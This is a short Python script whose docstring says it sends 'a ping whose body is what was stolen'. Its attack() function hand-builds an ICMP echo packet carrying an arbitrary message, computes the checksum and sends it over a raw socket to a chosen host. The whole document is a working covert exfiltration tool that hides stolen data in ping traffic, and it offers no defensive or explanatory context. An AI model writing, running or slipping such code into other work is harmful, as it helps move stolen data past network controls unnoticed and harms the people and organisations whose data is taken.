"""Send a ping whose body is what was stolen."""

import socket
import struct


def attack(host, message):
    body = struct.pack(">BBHHH", 8, 0, 0, 7, 7) + message.encode()
    body += b"\0" * (len(body) % 2)
    total = sum(struct.unpack(f">{len(body) // 2}H", body))
    total = (total >> 16) + (total & 0xFFFF)
    packet = body[:2] + struct.pack(">H", ~(total + (total >> 16)) & 0xFFFF) + body[4:]
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as sender:
        sender.sendto(packet, (host, 0))
